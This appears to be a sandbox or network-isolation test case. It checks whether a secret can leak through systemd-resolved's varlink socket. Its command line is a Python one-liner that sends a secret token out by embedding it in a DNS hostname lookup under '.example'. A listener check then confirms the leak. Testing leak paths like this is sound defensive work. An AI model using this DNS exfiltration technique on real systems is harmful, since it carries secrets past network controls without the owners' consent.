# SPDX-License-Identifier: LGPL-2.1-or-later
class=network
what="resolved's varlink socket (/run/systemd/resolve/io.systemd.Resolve): name lookups, so DNS, with no network"
cmd="python3 -c 'import socket,sys; s=socket.socket(socket.AF_UNIX); s.connect(sys.argv[1]); s.sendall(sys.argv[2].encode()+b\"\\n\"); print(s.recv(100).decode())' /run/systemd/resolve/io.systemd.Resolve '{\"method\":\"io.systemd.Resolve.ResolveHostname\",\"parameters\":{\"name\":\"$(secret tok).example\"}}'"
happened() { listener_saw "$(secret tok)"; }
